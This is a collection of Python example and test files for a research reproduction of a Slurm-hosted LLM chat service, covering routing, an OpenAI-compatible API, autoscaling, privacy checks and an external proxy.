    for name in ("jobs_submitted", "scale_down_marks", "scale_up_reclaims",
                 "instances_reaped", "requests_completed",
                 "proxy_keepalives"):
        print(f"  {name:22s} {m.counter(name).value:.0f}")


if __name__ == "__main__":
    main()
