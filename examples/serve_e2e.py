"""End-to-end serving driver (the paper's kind: an LLM *service*).

Trains a small byte-level LM just long enough to be non-random, then serves
batched requests through the REAL JAX continuous-batching engine running
inside a Slurm service job — the full path: gateway → SSH ForceCommand →
routing table → engine with paged KV cache.

    PYTHONPATH=src python examples/serve_e2e.py [--steps 60]
"""
import argparse
import time

import jax
import jax.numpy as jnp
import numpy as np

from repro.configs import get_config, reduced
from repro.core.scheduler import ServiceSpec
from repro.core.service import ChatAI
from repro.data.pipeline import ByteCorpus
from repro.models import param_defs
from repro.models.params import materialize
from repro.serving.engine import Engine
from repro.serving.sampling import SamplingParams
from repro.slurmlite.instances import Backend, Response
from repro.train.optimizer import AdamWConfig, init_opt_state
from repro.train.trainer import make_train_step

CORPUS = [
    "Chat AI is a Slurm-native service for private LLM inference. ",
    "The scheduler script keeps one job per instance and load balances. ",
    "SSH ForceCommand restricts the web server to one entrypoint. ",
    "No conversation content is ever stored on the server side. ",
] * 8


def train_tiny(steps: int):
    cfg = reduced(get_config("llama3.2-1b")).with_(
        vocab_size=ByteCorpus.vocab_size)
    params = materialize(param_defs(cfg), jax.random.key(0))
    data = ByteCorpus(CORPUS, seq_len=64, batch_size=8)
    step = jax.jit(make_train_step(cfg, AdamWConfig(
        lr=3e-3, warmup_steps=10, total_steps=max(steps, 20))))
    opt = init_opt_state(params)
    it = data.batches()
    t0 = time.time()
    for i in range(steps):
        params, opt, stats = step(params, opt, next(it))
        if i % 10 == 0 or i == steps - 1:
            print(f"  step {i:3d}  loss {float(stats['loss']):.3f}  "
                  f"({time.time() - t0:.0f}s)")
    return cfg, params


class EngineBackend(Backend):
    """Service-job backend driving the real continuous-batching engine."""

    def __init__(self, engine: Engine):
        self.engine = engine

    def infer(self, inst, req, done):
        if "prompt_ids" in req.payload:
            prompt = np.asarray(req.payload["prompt_ids"], np.int32)
        else:   # the service path ships messages; tokenize server-side
            text = " ".join(m.get("content", "")
                            for m in req.payload.get("messages", []))
            prompt = ByteCorpus.encode(text or " ")
        t0 = inst.clock.now()
        rid = self.engine.submit(prompt, SamplingParams(
            max_new_tokens=req.max_new_tokens,
            temperature=req.payload.get("temperature", 0.0)))
        while self.engine.requests[rid].state.value != "finished":
            self.engine.step()
        r = self.engine.requests[rid]
        done(Response(req.request_id, 200, tokens=r.output,
                      first_token_time=t0, finish_time=inst.clock.now()))


def main() -> None:
    ap = argparse.ArgumentParser()
    ap.add_argument("--steps", type=int, default=60)
    args = ap.parse_args()

    print("== stage 1: train a tiny byte-level model ==")
    cfg, params = train_tiny(args.steps)

    print("== stage 2: serve it through the Chat AI stack ==")
    engine = Engine(cfg, params, max_num_seqs=4, max_model_len=192,
                    block_size=16)
    chat = ChatAI.build_sim(services=[ServiceSpec(
        name="tinylm", arch="llama3.2-1b", load_time=30.0,
        gpus_per_instance=1,
        backend_factory=lambda: EngineBackend(engine))])
    chat.warm_up()
    sess = chat.login("alice@uni-goettingen.de")

    prompts = ["Chat AI is", "The scheduler", "SSH Force", "No conversation"]
    results = {}
    for i, text in enumerate(prompts):
        r = chat.chat(session=sess, model="tinylm",
                      messages=[{"role": "user", "content": text}],
                      max_tokens=48)
        assert r.status == 200
        r.deferred.on_done(lambda resp, i=i: results.setdefault(i, resp))
        chat.clock.run_for(5)

    print("\ngenerations served through the full stack:")
    for i, text in enumerate(prompts):
        resp = results[i]
        out = ByteCorpus.decode(resp.tokens)
        print(f"  [{resp.status}] {text!r} -> {out!r}")
    chat.assert_no_conversation_state(prompts[0].encode())
    print("privacy audit passed")

    print("\nbatched generations (engine direct, 4 concurrent):")
    rids = [engine.submit(ByteCorpus.encode(t),
                          SamplingParams(max_new_tokens=48))
            for t in prompts]
    while engine.has_work():
        engine.step()
    for t, rid in zip(prompts, rids):
        out = ByteCorpus.decode(engine.requests[rid].output)
        print(f"  {t!r} -> {out!r}")
    util = engine.bm.utilization()
    print(f"\nengine stats: steps={engine.steps} "
          f"decode_tokens={engine.decode_tokens} kv_util={util:.2f}")


if __name__ == "__main__":
    main()
