"""Routing table + random load balancing (paper §5.6)."""
import random

import pytest
from _hypothesis_compat import given, settings, st

from repro.core.routing import RouteEntry, RoutingTable


def _entry(job_id, service="m", node="n0", port=21000, ready=True):
    return RouteEntry(service=service, job_id=job_id, node=node, port=port,
                      ready=ready)


def test_upsert_get_remove():
    t = RoutingTable()
    t.upsert(_entry(1))
    assert t.get(1).job_id == 1
    t.remove(1)
    assert t.get(1) is None
    t.remove(1)  # idempotent


def test_entries_filtered_and_sorted():
    t = RoutingTable()
    t.upsert(_entry(3, service="a"))
    t.upsert(_entry(1, service="b"))
    t.upsert(_entry(2, service="a"))
    assert [e.job_id for e in t.entries()] == [1, 2, 3]
    assert [e.job_id for e in t.entries("a")] == [2, 3]


def test_pick_only_ready():
    t = RoutingTable()
    t.upsert(_entry(1, ready=False))
    assert t.pick("m") is None
    t.upsert(_entry(2, ready=True))
    for _ in range(20):
        assert t.pick("m").job_id == 2


def test_pick_is_uniformish():
    """Random load balancing across READY instances (paper's policy)."""
    t = RoutingTable(random.Random(7))
    for i in range(4):
        t.upsert(_entry(i, port=21000 + i))
    picks = [t.pick("m").job_id for _ in range(4000)]
    for i in range(4):
        assert 800 < picks.count(i) < 1200


def test_port_allocation_avoids_collisions():
    t = RoutingTable(random.Random(0))
    seen = set()
    for j in range(200):
        p = t.alloc_port(lo=20000, hi=20300)
        assert p not in seen
        assert not t.port_in_use(None, p)
        t.upsert(_entry(j, port=p))
        seen.add(p)


def test_port_space_exhaustion():
    t = RoutingTable(random.Random(0))
    for j in range(8):
        t.upsert(_entry(j, port=20000 + j))
    with pytest.raises(RuntimeError):
        t.alloc_port(lo=20000, hi=20008)


def test_port_in_use_per_node():
    t = RoutingTable()
    t.upsert(_entry(1, node="n0", port=25000))
    assert t.port_in_use("n0", 25000)
    assert not t.port_in_use("n1", 25000)
    # unbound (PENDING) entries collide with every node
    t.upsert(_entry(2, node=None, port=26000))
    assert t.port_in_use("n1", 26000)
    assert t.port_in_use(None, 26000)


def test_port_in_use_pinned_entry_is_not_cluster_wide():
    """Regression: a port held by an entry pinned to one node used to be
    reported taken for node=None queries too — ports are per-node
    resources, so only unpinned entries collide cluster-wide."""
    t = RoutingTable()
    t.upsert(_entry(1, node="n0", port=25000))
    assert not t.port_in_use(None, 25000)
    # allocation with unknown placement still avoids the pinned port (the
    # job might land on n0): conservatism lives in alloc_port, not the
    # predicate
    t2 = RoutingTable(random.Random(0))
    for j in range(8):
        t2.upsert(_entry(j, node=f"n{j}", port=20000 + j))
    with pytest.raises(RuntimeError):
        t2.alloc_port(lo=20000, hi=20008)               # node unknown
    # with a known node, other nodes' pinned ports are reusable
    assert t2.alloc_port(lo=20000, hi=20008, node="n0") != 20000


def test_roundtrip_persistence():
    t = RoutingTable()
    t.upsert(_entry(1, service="a", ready=True))
    t.upsert(_entry(2, service="b", node=None, ready=False))
    t2 = RoutingTable.loads(t.dumps())
    assert t2.dumps() == t.dumps()


# ---------------------------------------------------------------------------
# property tests
# ---------------------------------------------------------------------------

@settings(max_examples=50, deadline=None)
@given(st.lists(st.tuples(st.integers(0, 50), st.booleans()), max_size=60))
def test_table_is_a_map_over_job_ids(ops):
    """Upsert/remove behave like dict ops keyed on job_id."""
    t = RoutingTable()
    model = {}
    for jid, add in ops:
        if add:
            e = _entry(jid, port=20000 + jid)
            t.upsert(e)
            model[jid] = e
        else:
            t.remove(jid)
            model.pop(jid, None)
    assert {e.job_id for e in t.entries()} == set(model)


@settings(max_examples=30, deadline=None)
@given(st.integers(0, 2**32 - 1), st.integers(1, 30))
def test_allocated_ports_never_collide(seed, n):
    t = RoutingTable(random.Random(seed))
    ports = []
    for j in range(n):
        p = t.alloc_port(lo=20000, hi=20000 + 4 * n)
        t.upsert(_entry(j, port=p))
        ports.append(p)
    assert len(set(ports)) == n


def test_affinity_router_retire_clears_outstanding():
    from repro.core.routing import AffinityRouter
    r = AffinityRouter(RoutingTable())
    r.begin(7)
    r.begin(7)
    assert r.outstanding[7] == 2
    r.retire(7)
    assert 7 not in r.outstanding
    r.retire(7)                                  # idempotent
    assert 7 not in r.outstanding


def test_affinity_covered_tie_prefers_swap_headroom():
    """Equal prefix coverage: the replica with free host-swap-pool
    headroom wins (before least-outstanding) — it can park preemption
    victims on the host instead of recompute-preempting them."""
    from repro.core.prefix_index import PrefixIndex
    from repro.core.routing import AffinityRouter
    t = RoutingTable()
    t.upsert(_entry(1, node="n0"))
    t.upsert(_entry(2, node="n1"))
    idx = PrefixIndex()
    idx.publish(1, ["k1", "k2"])
    idx.publish(2, ["k1", "k2"])
    r = AffinityRouter(t, idx)
    # job 2 has headroom and MORE outstanding: headroom decides first
    r.begin(2)
    r.set_headroom(1, 0)
    r.set_headroom(2, 16)
    assert r.pick("m", chain_keys=["k1", "k2"]).job_id == 2
    # equal headroom: least-outstanding decides again
    r.set_headroom(2, 0)
    assert r.pick("m", chain_keys=["k1", "k2"]).job_id == 1


def test_fallback_outstanding_tie_prefers_swap_headroom():
    from repro.core.routing import AffinityRouter
    t = RoutingTable()
    for j in (1, 2, 3):
        t.upsert(_entry(j, node=f"n{j}"))
    r = AffinityRouter(t)
    r.set_headroom(3, 8)
    # all outstanding counts equal (0): job 3's headroom wins, always
    for _ in range(5):
        assert r.pick("m").job_id == 3
    # a loaded job 3 loses to the least-outstanding rule as usual
    r.begin(3)
    assert r.pick("m").job_id in (1, 2)


def test_retire_clears_headroom():
    from repro.core.routing import AffinityRouter
    r = AffinityRouter(RoutingTable())
    r.set_headroom(7, 4)
    r.retire(7)
    assert 7 not in r.headroom
