"""OpenAI-compatible API layer tests (request validation, wire format,
SSE streaming) against the real engine on a reduced model."""
import json

import jax
import numpy as np
import pytest

from repro.configs import get_config, reduced
from repro.data.pipeline import ByteCorpus
from repro.models import param_defs
from repro.models.params import materialize
from repro.serving.api import ApiError, ApiServer, ChatRequest
from repro.serving.engine import Engine


@pytest.fixture(scope="module")
def server():
    cfg = reduced(get_config("llama3.2-1b")).with_(
        vocab_size=ByteCorpus.vocab_size)
    params = materialize(param_defs(cfg), jax.random.key(0))
    eng = Engine(cfg, params, max_num_seqs=2, max_model_len=96,
                 block_size=8)
    return ApiServer(eng, encode=lambda s: ByteCorpus.encode(s),
                     decode=lambda ids: ByteCorpus.decode(ids),
                     model_name="tiny-llama")


def body(**kw):
    d = {"model": "tiny-llama",
         "messages": [{"role": "user", "content": "hi"}],
         "max_tokens": 8}
    d.update(kw)
    return json.dumps(d).encode()


# ----- validation -----

@pytest.mark.parametrize("bad", [
    b"not json{",
    json.dumps({"messages": []}).encode(),
    json.dumps({"messages": "hello"}).encode(),
    json.dumps({"messages": [{"content": "x"}]}).encode(),
    json.dumps({"messages": [{"role": "wizard", "content": "x"}]}).encode(),
    json.dumps({"messages": [{"role": "user", "content": "x"}],
                "max_tokens": -1}).encode(),
    json.dumps({"messages": [{"role": "user", "content": "x"}],
                "temperature": 9.0}).encode(),
])
def test_bad_requests_rejected(bad):
    with pytest.raises(ApiError) as ei:
        ChatRequest.parse(bad)
    assert ei.value.status == 400


def test_prompt_assembly():
    r = ChatRequest.parse(body(messages=[
        {"role": "system", "content": "be brief"},
        {"role": "user", "content": "hello"}]))
    assert r.prompt_text() == "system: be brief\nuser: hello\nassistant:"


# ----- completion -----

def test_chat_completion_wire_format(server):
    out = server.chat_completion(body())
    assert out["object"] == "chat.completion"
    assert out["choices"][0]["message"]["role"] == "assistant"
    assert isinstance(out["choices"][0]["message"]["content"], str)
    assert out["usage"]["completion_tokens"] == 8
    assert out["usage"]["total_tokens"] == (
        out["usage"]["prompt_tokens"] + 8)
    assert out["choices"][0]["finish_reason"] == "length"


def test_max_tokens_exceeding_context_rejected(server):
    with pytest.raises(ApiError):
        server.chat_completion(body(max_tokens=4096))


def test_engine_rejection_maps_to_400(server):
    """The engine's own submit validation (a ValueError, e.g. an empty
    token sequence after encoding) must surface as an HTTP 400, not an
    unhandled exception / 500."""
    import dataclasses
    broken = dataclasses.replace(server, encode=lambda s: [])
    with pytest.raises(ApiError) as ei:
        broken.chat_completion(body())
    assert ei.value.status == 400
    assert "non-empty" in ei.value.message


def test_streaming_chunks_and_done(server):
    chunks = list(server.chat_completion_stream(body(max_tokens=5)))
    assert chunks[-1] == b"data: [DONE]\n\n"
    deltas = []
    for c in chunks[:-1]:
        assert c.startswith(b"data: ")
        d = json.loads(c[6:])
        assert d["object"] == "chat.completion.chunk"
        deltas.append(d["choices"][0]["delta"].get("content", ""))
    assert len([x for x in deltas if x != ""]) == 5
    # final chunk carries the finish_reason
    last = json.loads(chunks[-2][6:])
    assert last["choices"][0]["finish_reason"] == "stop"


def test_stream_equals_nonstream(server):
    out = server.chat_completion(body(max_tokens=6))
    text = out["choices"][0]["message"]["content"]
    chunks = list(server.chat_completion_stream(body(max_tokens=6)))
    streamed = "".join(
        json.loads(c[6:])["choices"][0]["delta"].get("content", "")
        for c in chunks[:-1])
    assert streamed == text


def test_models_endpoint(server):
    m = server.models()
    assert m["data"][0]["id"] == "tiny-llama"
