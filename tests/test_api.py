"""OpenAI-compatible API layer tests (request validation, wire format,
SSE streaming) against the real engine on a reduced model."""
import json

import jax
import numpy as np
import pytest

from repro.configs import get_config, reduced
from repro.data.pipeline import ByteCorpus
from repro.models import param_defs
from repro.models.params import materialize
from repro.serving.api import ApiError, ApiServer, ChatRequest
from repro.serving.engine import Engine


@pytest.fixture(scope="module")
def server():
    cfg = reduced(get_config("llama3.2-1b")).with_(
        vocab_size=ByteCorpus.vocab_size)
    params = materialize(param_defs(cfg), jax.random.key(0))
    eng = Engine(cfg, params, max_num_seqs=2, max_model_len=96,
                 block_size=8)
    return ApiServer(eng, encode=lambda s: ByteCorpus.encode(s),
                     decode=lambda ids: ByteCorpus.decode(ids),
                     model_name="tiny-llama")


def body(**kw):
    d = {"model": "tiny-llama",
         "messages": [{"role": "user", "content": "hi"}],
         "max_tokens": 8}
    d.update(kw)
    return json.dumps(d).encode()


# ----- validation -----

@pytest.mark.parametrize("bad", [
    b"not json{",
    json.dumps({"messages": []}).encode(),
    json.dumps({"messages": "hello"}).encode(),
    json.dumps({"messages": [{"content": "x"}]}).encode(),
    json.dumps({"messages": [{"role": "wizard", "content": "x"}]}).encode(),
    json.dumps({"messages": [{"role": "user", "content": "x"}],
                "max_tokens": -1}).encode(),
    json.dumps({"messages": [{"role": "user", "content": "x"}],
                "temperature": 9.0}).encode(),
])
def test_bad_requests_rejected(bad):
    with pytest.raises(ApiError) as ei:
        ChatRequest.parse(bad)
    assert ei.value.status == 400


def test_prompt_assembly():
    r = ChatRequest.parse(body(messages=[
        {"role": "system", "content": "be brief"},
        {"role": "user", "content": "hello"}]))
    assert r.prompt_text() == "system: be brief\nuser: hello\nassistant:"


# ----- completion -----

def test_chat_completion_wire_format(server):
    out = server.chat_completion(body())
    assert out["object"] == "chat.completion"
    assert out["choices"][0]["message"]["role"] == "assistant"
    assert isinstance(out["choices"][0]["message"]["content"], str)
    assert out["usage"]["completion_tokens"] == 8
    assert out["usage"]["total_tokens"] == (
        out["usage"]["prompt_tokens"] + 8)
    assert out["choices"][0]["finish_reason"] == "length"


def test_max_tokens_exceeding_context_rejected(server):
    with pytest.raises(ApiError):
        server.chat_completion(body(max_tokens=4096))


def test_engine_rejection_maps_to_400(server):
    """The engine's own submit validation (a ValueError, e.g. an empty
    token sequence after encoding) must surface as an HTTP 400, not an
    unhandled exception / 500."""
    import dataclasses
    broken = dataclasses.replace(server, encode=lambda s: [])
    with pytest.raises(ApiError) as ei:
        broken.chat_completion(body())
    assert ei.value.status == 400
    assert "non-empty" in ei.value.message


def test_streaming_chunks_and_done(server):
    chunks = list(server.chat_completion_stream(body(max_tokens=5)))
    assert chunks[-1] == b"data: [DONE]\n\n"
    deltas = []
    for c in chunks[:-1]:
        assert c.startswith(b"data: ")
        d = json.loads(c[6:])
        assert d["object"] == "chat.completion.chunk"
        deltas.append(d["choices"][0]["delta"].get("content", ""))
    assert len([x for x in deltas if x != ""]) == 5
    # final chunk carries the finish_reason — the same one the
    # non-streaming response reports (here: the max_tokens cap)
    last = json.loads(chunks[-2][6:])
    assert last["choices"][0]["finish_reason"] == "length"


def test_stream_equals_nonstream(server):
    out = server.chat_completion(body(max_tokens=6))
    text = out["choices"][0]["message"]["content"]
    chunks = list(server.chat_completion_stream(body(max_tokens=6)))
    streamed = "".join(
        json.loads(c[6:])["choices"][0]["delta"].get("content", "")
        for c in chunks[:-1])
    assert streamed == text


def test_models_endpoint(server):
    m = server.models()
    assert m["data"][0]["id"] == "tiny-llama"


# ----- parallel sampling (n / best_of / seed) -----

@pytest.mark.parametrize("bad", [
    {"n": 0},
    {"n": 100},
    {"n": "two"},
    {"n": 3, "best_of": 2},
    {"seed": "abc"},
    {"n": 1, "best_of": 2, "stream": True},
])
def test_bad_group_params_rejected(bad):
    with pytest.raises(ApiError) as ei:
        ChatRequest.parse(body(**bad))
    assert ei.value.status == 400


def test_best_of_exceeding_batch_maps_to_400(server):
    # max_num_seqs=2 on this engine: a best_of=4 group can never fork
    with pytest.raises(ApiError) as ei:
        server.chat_completion(body(n=4, best_of=4))
    assert ei.value.status == 400
    assert "max_num_seqs" in ei.value.message


def test_n_choices_wire_format_and_group_usage(server):
    out = server.chat_completion(body(n=2, max_tokens=4))
    assert [c["index"] for c in out["choices"]] == [0, 1]
    # greedy parallel samples are identical, and usage is group-level:
    # the prompt is counted (and was prefilled) once, completions summed
    texts = [c["message"]["content"] for c in out["choices"]]
    assert texts[0] == texts[1]
    assert out["usage"]["completion_tokens"] == 8
    assert out["usage"]["total_tokens"] == out["usage"]["prompt_tokens"] + 8
    assert all(c["finish_reason"] == "length" for c in out["choices"])


def test_best_of_returns_n_best_by_cum_logprob(server):
    out = server.chat_completion(body(n=1, best_of=2, max_tokens=4,
                                      temperature=1.0, seed=5))
    assert len(out["choices"]) == 1
    # all best_of sequences were decoded and billed
    assert out["usage"]["completion_tokens"] == 8


def test_seeded_requests_reproducible(server):
    a = server.chat_completion(body(n=2, max_tokens=5, temperature=1.0,
                                    seed=42))
    b = server.chat_completion(body(n=2, max_tokens=5, temperature=1.0,
                                    seed=42))
    ta = [c["message"]["content"] for c in a["choices"]]
    tb = [c["message"]["content"] for c in b["choices"]]
    assert ta == tb
    c = server.chat_completion(body(n=2, max_tokens=5, temperature=1.0,
                                    seed=43))
    tc = [c2["message"]["content"] for c2 in c["choices"]]
    assert tc != ta


def test_stream_n2_carries_choice_indexes(server):
    chunks = list(server.chat_completion_stream(
        body(n=2, max_tokens=4, temperature=1.0, seed=9)))
    assert chunks[-1] == b"data: [DONE]\n\n"
    per_index = {0: "", 1: ""}
    finals = set()
    for c in chunks[:-1]:
        d = json.loads(c[6:])
        ch = d["choices"][0]
        if ch["finish_reason"] is not None:
            finals.add(ch["index"])
        else:
            per_index[ch["index"]] += ch["delta"].get("content", "")
    assert finals == {0, 1}
    assert all(len(v) > 0 for v in per_index.values())
    # streamed bytes match the non-streaming completion for the same seed
    out = server.chat_completion(body(n=2, max_tokens=4, temperature=1.0,
                                      seed=9))
    got = {c["message"]["content"] for c in out["choices"]}
    assert set(per_index.values()) == got
