"""End-to-end Chat AI system tests (paper Figure 1 + §6 scenarios)."""
import json

import pytest

from repro.core.scheduler import ServiceSpec
from repro.core.service import ChatAI
from repro.slurmlite import JobSpec


def build(**kw):
    services = kw.pop("services", None) or [
        ServiceSpec(name="llama", arch="llama3.2-1b", load_time=60.0,
                    gpus_per_instance=1, max_instances=4)]
    return ChatAI.build_sim(services=services, **kw)


def run_chat(chat, session, model="llama", text="hello world",
             max_tokens=16, **kw):
    r = chat.chat(session=session, model=model,
                  messages=[{"role": "user", "content": text}],
                  max_tokens=max_tokens, **kw)
    out = {}
    if r.deferred is not None:
        r.deferred.on_done(lambda v: out.setdefault("v", v))
    chat.clock.run_for(120)
    return r, out.get("v")


def test_cold_start_then_serve():
    chat = build()
    chat.warm_up()
    assert chat.clock.now() >= 60.0          # model load time respected
    sess = chat.login("alice@uni-goettingen.de")
    r, resp = run_chat(chat, sess)
    assert r.status == 200
    # the proxy chains the SSH deferred to the final instance Response
    assert resp is not None and resp.status == 200
    assert len(resp.tokens) == 16


def test_unknown_user_rejected():
    chat = build()
    chat.warm_up()
    assert chat.login("mallory@evil.com") is None
    r = chat.chat(session="forged-token", model="llama",
                  messages=[{"role": "user", "content": "hi"}])
    assert r.status == 401


def test_unknown_model_404s_at_hpc_side():
    chat = build()
    chat.warm_up()
    sess = chat.login("alice@uni-goettingen.de")
    r, resp = run_chat(chat, sess, model="not-a-model")
    body = json.loads(resp.stdout) if resp is not None and resp.stdout else {}
    assert body.get("error", {}).get("code") == 404


def test_first_token_latency_breakdown():
    """Paper Table 1: ~50 ms to first token, ~23 ms architecture overhead."""
    chat = build()
    chat.warm_up()
    sess = chat.login("alice@uni-goettingen.de")
    t0 = chat.clock.now()
    r = chat.chat(session=sess, model="llama",
                  messages=[{"role": "user", "content": "hi"}], max_tokens=4)
    first = {}
    r.deferred.on_done(lambda resp: first.setdefault(
        "t", resp.first_token_time))
    chat.clock.run_for(10)
    dt = first["t"] - t0
    # 2.59ms local + 10.54ms ssh + 5.30ms probe + ~27ms+ LLM first token
    assert 0.030 < dt < 0.120
    overhead = (chat.local_proxy_latency + chat.proxy.link.latency
                + chat.cloud_script.probe_latency)
    assert 0.015 < overhead < 0.030      # ~23 ms architecture overhead


def test_instance_failure_heals_and_service_recovers():
    chat = build()
    chat.warm_up()
    e = chat.scheduler.table.entries("llama")[0]
    chat.slurm.fail_node(e.node)
    # some requests may 503 while the replacement loads; eventually it heals
    chat.clock.run_for(5)
    sess = chat.login("alice@uni-goettingen.de")
    deadline = chat.clock.now() + 600
    ok = False
    while chat.clock.now() < deadline and not ok:
        r, resp = run_chat(chat, sess, max_tokens=2)
        ok = getattr(resp, "status", None) == 200 and bool(
            getattr(resp, "tokens", None))
    assert ok, "service did not recover after node failure"
    es = [x for x in chat.scheduler.table.entries("llama") if x.ready]
    assert es and all(x.node != e.node or x.job_id != e.job_id for x in es)


def test_autoscaling_under_sustained_load():
    chat = build(services=[ServiceSpec(
        name="llama", arch="llama3.2-1b", load_time=30.0,
        gpus_per_instance=1, max_instances=4,
        scale_up_per_instance=4.0, window_s=30.0)])
    chat.warm_up()
    sess = chat.login("alice@uni-goettingen.de")
    # sustained burst: 20 concurrent long generations
    for i in range(20):
        chat.chat(session=sess, model="llama",
                  messages=[{"role": "user", "content": f"req {i}"}],
                  max_tokens=512)
    chat.clock.run_for(300)
    n = len(chat.scheduler.table.entries("llama"))
    assert n > 1, "no scale-up under 20 concurrent requests"


def test_side_by_side_with_batch_workloads():
    """Service jobs coexist with regular Slurm jobs (the paper's core
    pitch): service outranks batch via priority, batch fills the gaps."""
    chat = build()
    chat.warm_up()
    # a user submits regular batch jobs filling the rest of the cluster
    batch_ids = [chat.slurm.sbatch(JobSpec("mpi_user_job", gres_gpus=4,
                                           time_limit=100.0, priority=0))
                 for _ in range(12)]
    chat.clock.run_for(5)
    used, total = chat.slurm.gpu_totals()
    assert used > 4 * 4          # batch jobs got placed alongside service
    sess = chat.login("alice@uni-goettingen.de")
    r, resp = run_chat(chat, sess, max_tokens=2)
    assert resp.status == 200


def test_privacy_no_conversation_state_server_side():
    """Paper §6.2: prompts/responses never stored server-side."""
    chat = build()
    chat.warm_up()
    sess = chat.login("alice@uni-goettingen.de")
    secret = "WITNESS-8c1a4f my medical history"
    run_chat(chat, sess, text=secret)
    chat.assert_no_conversation_state(b"WITNESS-8c1a4f")


def test_metrics_capture_usage_not_content():
    chat = build()
    chat.warm_up()
    sess = chat.login("alice@uni-goettingen.de")
    run_chat(chat, sess, text="tell me something")
    rendered = chat.metrics.render_prometheus()
    assert "gw_requests_total" in rendered
    assert "requests_routed" in rendered
    assert "tell me something" not in rendered


def test_api_key_path_equivalent_to_web_path():
    """§5.2: past the gateway, web and API users are indistinguishable."""
    chat = build()
    chat.warm_up()
    key = chat.issue_api_key("carol@mpg.de")
    r = chat.chat(api_key=key, model="llama",
                  messages=[{"role": "user", "content": "hi"}], max_tokens=2)
    assert r.status == 200
    out = {}
    r.deferred.on_done(lambda v: out.setdefault("v", v))
    chat.clock.run_for(60)
    assert out["v"].status == 200 and out["v"].tokens


def test_two_services_isolated():
    chat = build(services=[
        ServiceSpec(name="llama", arch="llama3.2-1b", load_time=30.0,
                    gpus_per_instance=1),
        ServiceSpec(name="qwen", arch="qwen3-14b", load_time=30.0,
                    gpus_per_instance=1)])
    chat.warm_up()
    assert len(chat.scheduler.table.entries("llama")) == 1
    assert len(chat.scheduler.table.entries("qwen")) == 1
    sess = chat.login("alice@uni-goettingen.de")
    r, resp = run_chat(chat, sess, model="qwen")
    assert resp.status == 200


def test_scale_to_zero_end_to_end():
    """Beyond-paper §7.1.3: a model at zero instances cold-starts on the
    first request; the user waits the cold-start, not a timeout."""
    chat = build(services=[ServiceSpec(
        name="rare-model", arch="llama3.2-1b", load_time=120.0,
        gpus_per_instance=1, min_instances=0, max_instances=2,
        queue_timeout_s=900.0)])
    chat.clock.run_for(60)
    chat.scheduler.tick()
    assert chat.scheduler.table.entries("rare-model") == []

    sess = chat.login("alice@uni-goettingen.de")
    t0 = chat.clock.now()
    r = chat.chat(session=sess, model="rare-model",
                  messages=[{"role": "user", "content": "hi"}],
                  max_tokens=4)
    assert r.status == 200
    out = {}
    r.deferred.on_done(lambda v: out.setdefault("v", v))
    chat.clock.run_for(600)
    resp = out["v"]
    assert resp.status == 200 and resp.tokens
    waited = resp.finish_time - t0
    assert 120.0 <= waited < 300.0       # dominated by the cold start
    # and the instance now serves immediately
    r2, resp2 = run_chat(chat, sess, model="rare-model", max_tokens=2)
    assert resp2.status == 200


def test_streaming_first_chunk_beats_completion():
    """§5.4 streaming: with stream=True the client receives the first
    token at first-token latency while the full generation is still
    minutes of tokens away."""
    chat = build()
    chat.warm_up()
    sess = chat.login("alice@uni-goettingen.de")
    t0 = chat.clock.now()
    r = chat.chat(session=sess, model="llama",
                  messages=[{"role": "user", "content": "stream me"}],
                  max_tokens=200, stream=True)
    assert r.status == 200
    chunks, final = [], {}

    def on_stream(stream):
        stream.on_chunk(lambda c: chunks.append((c[0], chat.clock.now())))
        stream.on_done(lambda resp: final.setdefault("resp", resp))

    r.deferred.on_done(on_stream)
    chat.clock.run_for(60)
    assert final["resp"].status == 200
    assert len(chunks) == 200
    t_first = chunks[0][1] - t0
    t_last = chunks[-1][1] - t0
    assert t_first < 0.1, f"first chunk too slow: {t_first}"
    assert t_last > 1.0, "completion should take seconds at 200 tokens"
    # chunk order and monotone timestamps
    assert [c[0] for c in chunks] == list(range(200))
    assert all(chunks[i][1] <= chunks[i + 1][1] for i in range(199))


def test_non_streaming_unaffected_by_stream_support():
    chat = build()
    chat.warm_up()
    sess = chat.login("alice@uni-goettingen.de")
    r, resp = run_chat(chat, sess, max_tokens=4)
    assert resp.status == 200 and len(resp.tokens) == 4
