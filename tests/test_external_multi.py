"""External proxy (§5.8) + multi-platform load balancing (§5.4)."""
import json

from repro.core.auth import User
from repro.core.circuit_breaker import ForceCommandBoundary, SSHResult
from repro.core.external_proxy import ExternalEndpoint, ExternalProxy
from repro.core.gateway import APIGateway, RateLimiter, Route
from repro.core.hpc_proxy import HPCProxy, SSHLink
from repro.core.multi_platform import ProxyPool
from repro.slurmlite.clock import SimClock


# ---------------------------------------------------------------------------
# §5.8 external proxy
# ---------------------------------------------------------------------------

def mk_external(clock=None):
    clock = clock or SimClock()
    ep = ExternalEndpoint(name="gpt-4", api_key="sk-service-key",
                          latency_s=0.8)
    return clock, ExternalProxy(clock, ep)


def test_external_request_uses_service_key_not_user():
    clock, xp = mk_external()
    got = {}
    body = json.dumps({"messages": [], "max_tokens": 100,
                       "user": "alice@uni.de", "user_id": "alice"}).encode()
    xp.upstream("POST", "/v1/chat/completions", "gpt-4", body,
                "alice@uni.de", False).on_done(lambda r: got.update(r))
    clock.run_for(1.0)
    assert got["status"] == 200
    # anonymization: the upstream saw the functional key, never the user
    assert got["key_used"] == "sk-service-key"


def test_external_cost_accounting():
    clock, xp = mk_external()
    for _ in range(3):
        xp.upstream("POST", "/v1/chat/completions", "gpt-4",
                    json.dumps({"max_tokens": 1000}).encode(), "u", False)
    clock.run_for(2.0)
    assert xp.spend_usd == 3 * 0.03          # 3 x 1k tokens x $0.03


def test_external_route_group_restricted_and_rate_limited():
    """The paper places the GPT-4 route behind strict rate limits and
    user-group restriction (§5.8)."""
    clock, xp = mk_external()
    gw = APIGateway(clock)
    gw.add_route(Route(name="gpt4", path_prefix="/v1/", model="gpt-4",
                       upstream=xp.upstream,
                       rate_limit=RateLimiter(clock, limit=2, window_s=60),
                       allowed_groups={"gpt4-pilot"}))
    req = dict(method="POST", path="/v1/chat/completions", model="gpt-4",
               body=b"{}", user_id="u")
    assert gw.handle(**req).status == 403            # not in the group
    gw.user_groups["u"] = {"gpt4-pilot"}
    assert gw.handle(**req).status == 200
    assert gw.handle(**req).status == 200
    assert gw.handle(**req).status == 429            # strict limit


def test_external_bad_json():
    clock, xp = mk_external()
    got = {}
    xp.upstream("POST", "/v1/chat/completions", "gpt-4", b"{nope",
                "u", False).on_done(lambda r: got.update(r))
    clock.run_for(0.1)
    assert got["status"] == 400


# ---------------------------------------------------------------------------
# §5.4 multi-platform proxy pool
# ---------------------------------------------------------------------------

def mk_pool(n=2):
    clock = SimClock()
    proxies, links = [], []
